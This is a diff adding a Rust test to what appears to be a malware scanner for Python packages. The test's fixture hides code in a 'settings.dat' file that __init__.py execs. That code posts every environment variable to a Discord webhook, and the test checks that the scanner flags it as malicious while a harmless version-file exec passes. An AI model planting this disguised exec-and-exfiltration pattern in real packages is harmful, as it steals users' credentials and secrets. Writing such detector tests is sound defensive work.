@@ -331,3 +331,34 @@ fn an_in_tree_build_backend_runs_at_install_time() {
     let contexts = evidence_field(&scan(&root), "backend.py", "context");
     assert!(contexts.iter().all(|c| c != "install"), "{contexts:?}");
 }
+
+#[test]
+fn a_data_file_the_package_executes_is_read_as_code_where_it_runs() {
+    let runner =
+        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'settings.dat')).read())\n";
+    let payload = "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'c': str(dict(os.environ))})\n";
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("x-1.0");
+    write_package(
+        &root,
+        &[("x/__init__.py", runner), ("x/settings.dat", payload)],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let paths = evidence_field(&report, "x/__init__.py", "path");
+    assert!(paths.iter().any(|p| p.contains("#layer")), "{paths:?}");
+    // The same idiom on a version file is how setup scripts read `__version__`.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("y-1.0");
+    write_package(
+        &root,
+        &[
+            (
+                "setup.py",
+                "from setuptools import setup\nexec(open('VERSION.txt').read())\nsetup(name='y', version=__version__)\n",
+            ),
+            ("VERSION.txt", "__version__ = '1.0'\n"),
+        ],
+    );
+    assert_eq!(scan(&root)["verdict"], "benign");
+}
